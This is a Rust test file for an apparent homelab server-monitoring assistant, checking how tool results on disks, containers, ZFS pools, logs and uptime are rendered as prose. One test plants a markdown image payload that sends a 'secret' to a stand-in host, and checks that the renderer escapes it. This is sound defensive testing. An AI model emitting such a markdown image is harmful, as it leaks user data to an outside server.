use super::super::answer::tests::understood;
use super::*;
use homelab_schemas::{monitoring::ContainerLogs, ContainerInfo, ToolId};
use serde_json::{json, Value};

pub fn resources_json() -> Value {
    json!({"cpu_percent": 12.5, "memory_total_gb": 16.0, "memory_used_gb": 4.25, "memory_percent": 26.56,
        "disk": [{"path": "/", "total_gb": 100.0, "used_gb": 40.0, "free_gb": 60.0, "percent_used": 40.0},
                 {"path": "/mnt/tank", "total_gb": 1000.0, "used_gb": 950.0, "free_gb": 50.0, "percent_used": 95.0}],
        "load_average": [0.52, 0.4, 0.33]})
}

pub fn containers_json() -> Value {
    json!([
        {"id": "aaaaaaaaaaaa", "name": "plex", "image": "plexinc/pms-docker:latest", "state": "running",
         "status": "Up 2 hours", "created": "2026-01-01T00:00:00Z", "ports": {"32400/tcp": [{"host_ip": "0.0.0.0", "host_port": "32400"}]}},
        {"id": "bbbbbbbbbbbb", "name": "nextcloud", "image": "nextcloud:28", "state": "exited",
         "status": "Exited (1) 3 hours ago", "created": "2026-01-01T00:00:00Z", "ports": {}},
        {"id": "cccccccccccc", "name": "backup", "image": "restic:latest", "state": "created",
         "status": "Created", "created": "2026-01-01T00:00:00Z", "ports": {"8000/tcp": null}}
    ])
}

/// One question per tool that the builtin model maps to it, and a result of that tool. A tool
/// added to the catalog fails to compile here until it has both.
pub fn sample(tool: ToolId) -> (&'static str, Value) {
    match tool {
        ToolId::SystemResources => ("How much disk space is left?", resources_json()),
        ToolId::Containers => ("Which containers are stopped?", containers_json()),
        ToolId::Problems => (
            "Is anything wrong?",
            json!({"problems": [{"severity": "warning", "kind": "filesystem", "subject": "/mnt/tank",
                "reason": "95.0% used, 50.00 GB free"}], "summary": "1 problem found.", "checked": ["filesystems"]}),
        ),
        ToolId::HostInfo => (
            "How long has the server been up?",
            json!({"hostname": "nas", "os": "Debian GNU/Linux 12", "kernel": "6.1.0", "uptime_seconds": 90061,
                "uptime": "1 day, 1 hour, 1 minute", "boot_time": "2026-11-23T11:00:00+01:00",
                "timezone": "Europe/Berlin", "cpu_cores": 4, "physical_cores": 4,
                "temperatures": [{"label": "cpu", "celsius": 45.0, "critical_celsius": null}],
                "network_interfaces": [{"name": "eth0", "received_bytes": 1073741824u64, "transmitted_bytes": 0}]}),
        ),
        ToolId::ZfsPools => (
            "Is my pool degraded?",
            json!({"pools": [{"name": "tank", "state": "ONLINE", "healthy": true, "mount": "/mnt/tank",
                "size_gb": 1000.0, "used_gb": 400.0, "free_gb": 600.0, "percent_used": 40.0}], "note": null}),
        ),
        ToolId::TruenasStatus => (
            "Is a scrub running on tank?",
            json!({"configured": true, "report": {"topic": "overview", "alerts": [], "alerts_by_level": {},
                "alerts_omitted": 0, "pools": [{"name": "tank", "status": "ONLINE", "healthy": true,
                "status_detail": null, "size_gb": 1000.0, "used_gb": 400.0, "free_gb": 600.0, "percent_used": 40.0,
                "scan": {"function": "SCRUB", "state": "SCANNING", "percentage": 42.5, "errors": 0,
                "started": "2026-11-24T10:00:00Z", "ended": null, "ago": "1 hour ago", "seconds_left": 3600}}]}}),
        ),
        ToolId::ContainerDetails => (
            "What is the restart count of the sonarr container?",
            json!({"name": "sonarr", "id": "0123456789ab", "image": "linuxserver/sonarr", "state": "running",
                "health": {"status": "healthy", "failing_streak": 0, "last_output": "ok", "last_exit_code": 0},
                "restart_count": 3, "exit_code": 0, "oom_killed": false, "error": null,
                "started_at": "2026-11-24T10:00:00Z", "finished_at": null, "ports": {},
                "mounts": [{"source": "/mnt/tank/sonarr", "destination": "/config", "read_only": false}],
                "labels": {}}),
        ),
        ToolId::ContainerStats => (
            "Which container uses the most memory?",
            json!({"containers": [
                {"name": "plex", "cpu_percent": 3.5, "memory_used_mb": 812.0, "memory_limit_mb": 7900.0,
                 "memory_percent": 10.3, "net_rx_mb": 1.0, "net_tx_mb": 2.0, "block_read_mb": 3.0, "block_write_mb": 4.0},
                {"name": "sonarr", "cpu_percent": 0.5, "memory_used_mb": 212.0, "memory_limit_mb": 7900.0,
                 "memory_percent": 2.7, "net_rx_mb": 1.0, "net_tx_mb": 2.0, "block_read_mb": 3.0, "block_write_mb": 4.0}],
                "note": null}),
        ),
        ToolId::History => (
            "Is the disk filling up?",
            json!({"metric": "disk", "unit": "GB", "window": "24h", "source": "this host", "resolution_seconds": 60,
                "series": [{"subject": "/mnt/tank", "samples": 1440, "from": "2026-11-23T12:00:00Z",
                    "to": "2026-11-24T12:00:00Z", "min": 900.0, "mean": 925.0, "max": 950.0,
                    "peak_at": "2026-11-24T12:00:00Z", "first": 900.0, "latest": 950.0, "trend": "rising",
                    "change_per_hour": 2.08, "total": 1000.0, "full_at": "2026-11-25T12:00:00Z",
                    "full_in": "about 24 hours"}],
                "start": "2026-11-23T12:00:00Z", "end": "2026-11-24T12:00:00Z", "covered": "the last 24 hours",
                "covered_seconds": 86400, "timezone": "UTC"}),
        ),
        ToolId::Processes => ("What is eating my CPU?", super::super::processes::tests::sample()),
        ToolId::Network => ("What's using my bandwidth?", super::super::network::tests::sample()),
        ToolId::Events => ("What happened last night?", super::super::events::tests::sample()),
        ToolId::ContainerLogs => (
            "Show me the logs of plex",
            json!({"name": "plex", "lines": ["Starting Plex", "Listening on 32400"], "line_count": 2, "note": null}),
        ),
    }
}

fn compose_one(question: &str, tool: ToolId, content: &str) -> String {
    super::super::answer::compose(&understood(question), &[(tool.name().to_string(), content.to_string())])
}

#[test]
fn every_tool_is_asked_for_by_its_question_and_answered_in_prose() {
    for &tool in ToolId::ALL {
        let (question, result) = sample(tool);
        // Offered alone (with the container list), the tool is what the question calls.
        let offered = [tool, ToolId::Containers];
        let asked: Vec<ToolId> =
            homelab_understanding::plan::calls(&understood(question), &offered).into_iter().map(|c| c.0).collect();
        assert!(asked.contains(&tool), "{question:?} asks for {asked:?}, not {tool:?}");
        let answer = compose_one(question, tool, &result.to_string());
        assert!(!answer.is_empty() && answer != super::super::HELP, "{tool:?}: {answer}");
        for raw in ["{", "}", "null", "\"", "get_", "list_", " ,", "()"] {
            assert!(!answer.contains(raw), "{tool:?} answer has {raw:?}: {answer}");
        }
        let broken = compose_one(question, tool, "{\"unexpected\": true}");
        assert!(broken.ends_with("came back in a form I can't read."), "{tool:?}: {broken}");
        assert!(!broken.contains(tool.name()), "{broken}");
    }
}

fn parse(tool: ToolId, v: serde_json::Value) -> ToolOutput {
    ToolOutput::parse(tool, &v.to_string()).unwrap()
}

fn say(question: &str, tool: ToolId, v: serde_json::Value) -> String {
    render(&parse(tool, v), &understood(question))
}

#[test]
fn history_is_said_with_what_it_covers_and_its_peak_time() {
    let (q, disk) = sample(ToolId::History);
    let said = say(q, ToolId::History, disk);
    assert!(
        said.starts_with("Over the last 24 hours: **/mnt/tank**: space used: 950.0 GiB of 1000.0 GiB now"),
        "{said}"
    );
    assert!(said.contains("full in about 24 hours (around 12:00 UTC on Nov 25)"), "{said}");
    let empty = json!({"metric": "container_cpu", "unit": "%", "window": "1h", "source": "this host",
        "resolution_seconds": 10, "series": [], "start": "2026-11-24T11:00:00Z", "end": "2026-11-24T12:00:00Z",
        "covered": "nothing", "covered_seconds": 0,
        "note": "No history for plex: it is exited, and containers are sampled only while they run."});
    assert_eq!(
        say("plex cpu history", ToolId::History, empty),
        "No history for plex: it is exited, and containers are sampled only while they run."
    );
}

#[test]
fn problems_are_listed_with_severity() {
    let v = json!({"problems": [{"severity": "critical", "kind": "container", "subject": "plex", "reason": "unhealthy (Up 2 hours (unhealthy))"}],
        "checked": ["containers", "filesystems"], "summary": "1 problem found."});
    assert_eq!(
        say("Is anything wrong?", ToolId::Problems, v),
        "1 problem found:\n\n- **critical** plex (container): unhealthy (Up 2 hours (unhealthy))"
    );
    let none = json!({"problems": [], "checked": ["containers"], "summary": "No problems found."});
    assert_eq!(say("Is anything wrong?", ToolId::Problems, none), "No problems found. I checked: containers.");
}

#[test]
fn text_from_the_system_cannot_become_an_image_or_a_link() {
    let leak = "![x](http://192.0.2.1/?d=secret) [click](http://192.0.2.2)";
    let details_answer = say(
        "details of web",
        ToolId::ContainerDetails,
        json!({"name": "web", "id": "abc", "state": "running", "image": "nginx", "restart_count": 0,
        "health": {"status": "unhealthy", "last_output": leak, "failing_streak": 1, "last_exit_code": 1},
        "exit_code": 0, "oom_killed": false, "error": null, "started_at": null, "finished_at": null,
        "ports": {}, "mounts": [], "labels": {}}),
    );
    let alert_answer = say(
        "TrueNAS alerts?",
        ToolId::TruenasStatus,
        json!({"configured": true, "report": {"topic": "alerts", "alerts": [{"level": "WARNING", "class": null,
            "text": leak, "since": null}], "alerts_by_level": {"WARNING": 1}, "alerts_omitted": 0}}),
    );
    let problems_answer = say(
        "anything wrong?",
        ToolId::Problems,
        json!({"problems": [{"severity": "warning", "kind": "container", "subject": "web", "reason": leak}],
            "checked": [], "summary": ""}),
    );
    for answer in [details_answer, alert_answer, problems_answer] {
        assert!(!answer.contains("![x]") && !answer.contains("[click]("), "{answer}");
        assert!(answer.contains("\\!\\[x\\](http://192.0.2.1/?d=secret)"), "{answer}");
    }
}

#[test]
fn uptime_question_gets_the_uptime_and_missing_facts_leave_no_gaps() {
    let v = json!({"hostname": "nas", "uptime": "3 days, 2 hours", "uptime_seconds": 266400, "os": "Debian",
        "boot_time": "2026-12-02T01:12:00+01:00", "timezone": "Europe/Berlin",
        "kernel": null, "cpu_cores": 1, "physical_cores": null, "temperatures": [],
        "network_interfaces": [{"name": "eth0", "received_bytes": 891289u64, "transmitted_bytes": 5368709120u64}]});
    assert_eq!(
        say("When did the server last reboot?", ToolId::HostInfo, v.clone()),
        "The server (nas) has been up for 3 days, 2 hours: it last booted on Dec 2, 2026 at 01:12 CET."
    );
    let net = say("What are the network interface totals?", ToolId::HostInfo, v.clone());
    assert!(
        net.contains("Network interfaces (totals since boot):\n\n- eth0: 870 KiB received, 5.00 GiB sent"),
        "{net}"
    );
    let version = say("what version of truenas am i on", ToolId::HostInfo, v.clone());
    assert_eq!(version, "It runs Debian on 1 CPU core.", "the system, not its interfaces and sensors");
    let all = say("Tell me about the host", ToolId::HostInfo, v);
    assert!(all.contains("It runs Debian on 1 CPU core."), "{all}");
    assert!(!all.contains("()") && !all.contains(" ,") && !all.contains("null"), "{all}");
}

#[test]
fn degraded_pools_are_called_out() {
    let v = json!({"pools": [{"name": "tank", "state": "DEGRADED", "healthy": false, "free_gb": 100.0, "size_gb": 1000.0,
        "mount": "/mnt/tank", "used_gb": 900.0, "percent_used": 90.0}], "note": null});
    assert_eq!(
        say("Is my pool ok?", ToolId::ZfsPools, v),
        "1 ZFS pool needs attention:\n\n- **tank**: DEGRADED, 100.00 GiB free of 1000.00 GiB"
    );
    assert_eq!(
        say("zfs?", ToolId::ZfsPools, json!({"pools": [], "note": "ZFS is not present on this host."})),
        "ZFS is not present on this host."
    );
}

#[test]
fn logs_are_quoted_and_cut_notes_kept() {
    let v = json!({"name": "plex", "lines": ["started", "listening on 32400"], "line_count": 2,
        "note": "only the last 2 lines are shown"});
    assert_eq!(
        say("logs of plex", ToolId::ContainerLogs, v),
        "Last 2 log lines of plex:\n\n```\nstarted\nlistening on 32400\n```\n\n(Note: only the last 2 lines are shown.)"
    );
}

#[test]
fn details_leave_out_what_is_empty() {
    let v = json!({"name": "web", "id": "abc", "state": "running", "image": "", "restart_count": 1,
        "health": {"status": "", "last_output": null, "failing_streak": null, "last_exit_code": null},
        "exit_code": 0, "oom_killed": false, "error": "", "started_at": "2026-01-01T00:00:00Z", "finished_at": null,
        "ports": {}, "mounts": [{"source": null, "destination": "/data", "read_only": false}], "labels": {}});
    let a = say("details of web", ToolId::ContainerDetails, v);
    assert_eq!(a, "**web** is running, restarted once, started 00:00 UTC on Jan 1.");
}

#[test]
fn the_closest_names_are_suggested() {
    let names = ["plex", "plex-db", "sonarr", "radarr", "nextcloud"];
    assert_eq!(closest("plexx", names), vec!["plex"]);
    assert_eq!(closest("app-wbe", ["app-web", "app-db", "app-cache"]), vec!["app-web"]);
    assert_eq!(closest("sonar", names), vec!["sonarr"]);
    assert!(closest("zzzz", names).is_empty());
}

#[test]
fn memory_says_swap_or_that_there_is_none_and_nothing_when_it_is_unknown() {
    let said = |swap: Value| {
        let mut r = resources_json();
        r.as_object_mut().unwrap().extend(swap.as_object().unwrap().clone());
        let r: SystemResources = serde_json::from_value(r).unwrap();
        render(&ToolOutput::SystemResources(r), &understood("how much swap am i using"))
    };
    let with = said(json!({"swap_total_gb": 2.0, "swap_used_gb": 0.5}));
    assert!(
        with.contains(
            "Memory: 4.25 GiB used of 16.00 GiB (26.6%), 11.75 GiB available; swap: 0.50 GiB used of 2.00 GiB."
        ),
        "{with}"
    );
    let none = said(json!({"swap_total_gb": 0.0, "swap_used_gb": 0.0}));
    assert!(none.contains("available; no swap is set up."), "{none}");
    // An older tool-monitoring does not say: nothing is claimed either way.
    let unknown = said(json!({}));
    assert!(unknown.contains("11.75 GiB available.") && !unknown.contains("swap"), "{unknown}");
}

#[test]
fn a_question_about_the_running_and_the_stopped_leads_with_those_not_running() {
    let list: Vec<ContainerInfo> = serde_json::from_value(containers_json()).unwrap();
    // "What's running and what's stopped?", or "which containers aren't running?" read as both.
    let mut topics = understood("which containers aren't running");
    topics.kinds = [Kind::Containers, Kind::Stopped].into_iter().collect();
    let a = containers(&list, &topics);
    assert!(a.starts_with("There are 3 containers: 1 running and 2 stopped. Not running:\n\n- **nextcloud**"), "{a}");
    assert!(a.contains("- **backup**") && a.ends_with("Running: **plex**."), "{a}");
    assert!(!a.contains("- **plex**"), "the running ones are named, not described: {a}");
    // A plain list question still gets every container described.
    topics.kinds = [Kind::Containers].into_iter().collect();
    assert!(containers(&list, &topics).contains("- **plex**"));
}

#[test]
fn errors_asked_of_a_log_are_its_error_lines_or_a_plain_none() {
    let topics = understood("any errors in plex's logs?");
    assert!(topics.errors, "{topics:?}");
    let mut lines: Vec<String> = (0..60).map(|i| format!("GET /library {i} 200")).collect();
    lines.insert(10, "ERROR: database is locked".into());
    for _ in 0..3 {
        lines.push("Failed to connect to 1.1.1.1".into());
    }
    let log = ContainerLogs { name: "plex".into(), line_count: lines.len(), lines, note: None };
    let a = logs(&log, &topics);
    assert_eq!(
        a,
        "4 of the last 64 log lines of plex look like errors:\n\n```\nERROR: database is locked\nFailed to connect to \
         1.1.1.1 (3 times in a row)\n```"
    );
    let quiet = ContainerLogs {
        name: "plex".into(),
        line_count: 3,
        lines: vec!["a".into(), "b".into(), "c".into()],
        note: None,
    };
    assert_eq!(logs(&quiet, &topics), "None of the last 3 log lines of plex looks like an error:\n\n```\na\nb\nc\n```");
    let longer: Vec<String> = (1..=8).map(|i| format!("line {i}")).collect();
    let longer = ContainerLogs { name: "plex".into(), line_count: 8, lines: longer, note: None };
    assert!(logs(&longer, &topics)
        .starts_with("None of the last 8 log lines of plex looks like an error. The last 5:\n\n```\nline 4\n"));
    let one = ContainerLogs { name: "plex".into(), line_count: 1, lines: vec!["ready".into()], note: None };
    assert_eq!(logs(&one, &topics), "The one log line of plex does not look like an error:\n\n```\nready\n```");
    // Not asked for errors: the last lines as they are.
    assert!(logs(&quiet, &understood("show me plex's logs")).starts_with("Last 3 log lines of plex:"));
}

#[test]
fn several_containers_figures_end_with_their_sum() {
    let (question, v) = sample(ToolId::ContainerStats);
    let s: homelab_schemas::monitoring::ContainerStats = serde_json::from_value(v).unwrap();
    let a = render(&ToolOutput::ContainerStats(s.clone()), &understood(question));
    assert!(a.ends_with("These 2 together: memory 1024 MiB, CPU 4.0% (100% is one core)."), "{a}");
    // One container's figures are their own total.
    let one = homelab_schemas::monitoring::ContainerStats { containers: s.containers[..1].to_vec(), note: None };
    assert!(!render(&ToolOutput::ContainerStats(one), &understood(question)).contains("together"));
}
